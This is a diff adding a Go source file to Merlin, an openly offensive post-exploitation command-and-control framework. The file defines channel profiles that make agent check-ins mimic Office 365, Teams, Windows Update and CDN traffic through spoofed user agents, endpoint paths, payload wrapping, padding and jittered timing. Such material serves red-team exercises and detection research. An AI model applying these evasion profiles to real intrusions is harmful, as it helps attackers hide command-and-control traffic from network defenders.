@@ -0,0 +1,283 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+// Package channel holds named communication channel profiles that bundle a transport, its transforms, padding, and
+// check in timing so that they are selected when the Agent is built, and switched at runtime, as a unit
+package channel
+
+import (
+	// Standard
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"os"
+	"sort"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+)
+
+// Settings are the command line flag names a channel profile can set, grouped by what they configure
+var Settings = []string{
+	// Transport
+	"proto", "url", "addr", "host", "headers", "useragent", "profile", "proxy", "ja3", "parrot", "ech", "echfallback", "pin", "rotation", "backup", "secure", "obfs",
+	// Transforms
+	"transforms",
+	// Padding
+	"padding", "throttle",
+	// Timing
+	"sleep", "skew",
+}
+
+// Profile is a named bundle of Agent settings, keyed by command line flag name, that make up one communication channel
+//
+// Example:
+//
+//	{
+//	  "name": "intranet-h2c",
+//	  "description": "Clear-text HTTP/2 to an internal redirector",
+//	  "settings": {"proto": "h2c", "url": "http://10.0.0.5/", "padding": "1024", "sleep": "2m", "skew": "30000"}
+//	}
+type Profile struct {
+	Name        string            `json:"name"`                  // Name is how the profile is selected (e.g., office365-https)
+	Description string            `json:"description,omitempty"` // Description is a short summary of the traffic the profile blends in with
+	Settings    map[string]string `json:"settings"`              // Settings are the values, keyed by command line flag name, the profile sets
+}
+
+// presets are the built-in channel profiles. They don't set a URL, so the Agent's URL is used unless one is provided
+var presets = []Profile{
+	{
+		Name:        "office365-https",
+		Description: "HTTP/2 JSON requests to Outlook Web Access and MAPI endpoints with an Outlook User-Agent",
+		Settings: map[string]string{
+			"proto":      "h2",
+			"useragent":  "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17231; Pro)",
+			"profile":    `{"uris":["/owa/service.svc","/mapi/emsmdb/","/autodiscover/autodiscover.json"],"method":"POST","contentType":"application/json; charset=utf-8","headers":{"Accept":"*/*","X-Requested-With":"XMLHttpRequest"},"payload":{"location":"body","prefix":"{\"Body\":\"","suffix":"\"}"},"shaping":{"preset":"browsing"}}`,
+			"transforms": "jwe,gob-base",
+			"padding":    "checkin=lognormal:900:0.4;normal:4096:1024",
+			"sleep":      "60s",
+			"skew":       "20000",
+		},
+	},
+	{
+		Name:        "teams-h2",
+		Description: "Frequent, small HTTP/2 requests to Microsoft Teams chat service endpoints shaped like a video call",
+		Settings: map[string]string{
+			"proto":      "h2",
+			"useragent":  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Teams/24004.1403.2634.2418",
+			"profile":    `{"uris":["/api/chatsvc/amer/v1/users/ME/conversations","/api/mt/part/amer-02/beta/users/fetch"],"method":"POST","contentType":"application/json","headers":{"Accept":"json","ClientInfo":"os=windows; osVer=10; proc=x86; lcid=en-us; clientType=teams"},"token":{"location":"header","name":"Authentication","prefix":"skypetoken="},"shaping":{"preset":"video"}}`,
+			"transforms": "jwe,gob-base",
+			"padding":    "512",
+			"sleep":      "15s",
+			"skew":       "5000",
+		},
+	},
+	{
+		Name:        "windowsupdate-http",
+		Description: "Infrequent clear-text SOAP requests to the Windows Update client web service",
+		Settings: map[string]string{
+			"proto":      "http",
+			"useragent":  "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.71",
+			"profile":    `{"uris":["/ClientWebService/client.asmx","/v6/ClientWebService/client.asmx"],"method":"POST","contentType":"application/soap+xml; charset=utf-8","headers":{"Cache-Control":"no-cache"},"payload":{"location":"body","prefix":"<s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\"><s:Body><SyncUpdates><cookie><EncryptedData>","suffix":"</EncryptedData></cookie></SyncUpdates></s:Body></s:Envelope>"},"token":{"location":"cookie","name":"WuSession"}}`,
+			"transforms": "jwe,gob-base",
+			"padding":    "8192",
+			"sleep":      "15m",
+			"skew":       "300000",
+		},
+	},
+	{
+		Name:        "cdn-http3",
+		Description: "HTTP/3 requests for static web assets from a content delivery network",
+		Settings: map[string]string{
+			"proto":      "http3",
+			"useragent":  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+			"profile":    `{"uris":["/assets/js/app.min.js","/static/css/main.css","/images/sprite.svg"],"method":"POST","contentType":"application/octet-stream","headers":{"Accept":"*/*","Sec-Fetch-Mode":"no-cors"},"token":{"location":"cookie","name":"__cf_bm"}}`,
+			"transforms": "jwe,gob-base",
+			"padding":    "checkin=normal:2048:512;16384",
+			"sleep":      "10s",
+			"skew":       "3000",
+		},
+	},
+}
+
+// profiles are the built-in and operator defined channel profiles, keyed by their lower case name
+var profiles = make(map[string]Profile)
+
+// current is the name of the channel profile the Agent is using; empty when it is not using one
+var current string
+
+// mu protects the profiles and the current profile from concurrent access
+var mu sync.Mutex
+
+func init() {
+	for _, p := range presets {
+		profiles[p.Name] = p
+	}
+}
+
+// Validate returns an error if the profile doesn't have a name or settings, sets anything other than the Settings, or
+// has a sleep or skew that can't be parsed
+func (p *Profile) Validate() error {
+	if strings.TrimSpace(p.Name) == "" {
+		return fmt.Errorf("channel.Validate(): the channel profile does not have a name")
+	}
+	if strings.ContainsAny(p.Name, " \t\r\n") {
+		return fmt.Errorf("channel.Validate(): the channel profile name %q can not contain whitespace", p.Name)
+	}
+	if len(p.Settings) == 0 {
+		return fmt.Errorf("channel.Validate(): the %s channel profile does not have any settings", p.Name)
+	}
+	for name, value := range p.Settings {
+		if !allowed(name) {
+			return fmt.Errorf("channel.Validate(): the %s channel profile can not set %s, only %s", p.Name, name, strings.Join(Settings, ", "))
+		}
+		switch name {
+		case "sleep":
+			d, err := time.ParseDuration(value)
+			if err != nil {
+				return fmt.Errorf("channel.Validate(): there was an error parsing the %s channel profile's sleep %s: %s", p.Name, value, err)
+			}
+			if d <= 0 {
+				return fmt.Errorf("channel.Validate(): the %s channel profile's sleep must be greater than 0 but was %s", p.Name, d)
+			}
+		case "skew":
+			_, err := strconv.ParseInt(value, 10, 64)
+			if err != nil {
+				return fmt.Errorf("channel.Validate(): there was an error parsing the %s channel profile's skew %s: %s", p.Name, value, err)
+			}
+		}
+	}
+	return nil
+}
+
+// String returns the profile's name followed by its description, if any
+func (p *Profile) String() string {
+	if p.Description == "" {
+		return p.Name
+	}
+	return fmt.Sprintf("%s - %s", p.Name, p.Description)
+}
+
+// Parse builds channel profiles from the provided string that can be a JSON profile or list of profiles, a base64
+// encoded JSON string, or the path to a file containing JSON. An empty string returns no profiles
+func Parse(definitions string) ([]Profile, error) {
+	definitions = strings.TrimSpace(definitions)
+	if definitions == "" {
+		return nil, nil
+	}
+
+	data := []byte(definitions)
+	if !strings.HasPrefix(definitions, "{") && !strings.HasPrefix(definitions, "[") {
+		if _, err := os.Stat(definitions); err == nil {
+			data, err = os.ReadFile(definitions) // #nosec G304 -- The channel profiles path is provided by the operator
+			if err != nil {
+				return nil, fmt.Errorf("channel.Parse(): there was an error reading the channel profiles file %s: %s", definitions, err)
+			}
+		} else {
+			data, err = base64.StdEncoding.DecodeString(definitions)
+			if err != nil {
+				return nil, fmt.Errorf("channel.Parse(): the channel profiles are not JSON, a file, or base64 encoded JSON: %s", err)
+			}
+		}
+	}
+
+	var list []Profile
+	data = []byte(strings.TrimSpace(string(data)))
+	if strings.HasPrefix(string(data), "{") {
+		var p Profile
+		err := json.Unmarshal(data, &p)
+		if err != nil {
+			return nil, fmt.Errorf("channel.Parse(): there was an error unmarshalling the channel profile JSON: %s", err)
+		}
+		list = append(list, p)
+	} else {
+		err := json.Unmarshal(data, &list)
+		if err != nil {
+			return nil, fmt.Errorf("channel.Parse(): there was an error unmarshalling the channel profiles JSON: %s", err)
+		}
+	}
+
+	for i := range list {
+		err := list[i].Validate()
+		if err != nil {
+			return nil, err
+		}
+	}
+	return list, nil
+}
+
+// Add stores the channel profiles, replacing any profile, including a built-in one, with the same name
+func Add(list []Profile) {
+	mu.Lock()
+	defer mu.Unlock()
+	for _, p := range list {
+		profiles[strings.ToLower(p.Name)] = p
+	}
+}
+
+// Get returns the channel profile with the provided name
+func Get(name string) (Profile, error) {
+	mu.Lock()
+	defer mu.Unlock()
+	p, ok := profiles[strings.ToLower(name)]
+	if !ok {
+		return Profile{}, fmt.Errorf("channel.Get(): unknown channel profile: %s", name)
+	}
+	return p, nil
+}
+
+// List returns all the channel profiles sorted by name
+func List() []Profile {
+	mu.Lock()
+	defer mu.Unlock()
+	var list []Profile
+	for _, p := range profiles {
+		list = append(list, p)
+	}
+	sort.Slice(list, func(i, j int) bool {
+		return list[i].Name < list[j].Name
+	})
+	return list
+}
+
+// Current returns the name of the channel profile the Agent is using; empty when it is not using one
+func Current() string {
+	mu.Lock()
+	defer mu.Unlock()
+	return current
+}
+
+// SetCurrent records the name of the channel profile the Agent is using
+func SetCurrent(name string) {
+	mu.Lock()
+	current = name
+	mu.Unlock()
+}
+
+// allowed returns true if the setting is one a channel profile can set
+func allowed(name string) bool {
+	for _, setting := range Settings {
+		if name == setting {
+			return true
+		}
+	}
+	return false
+}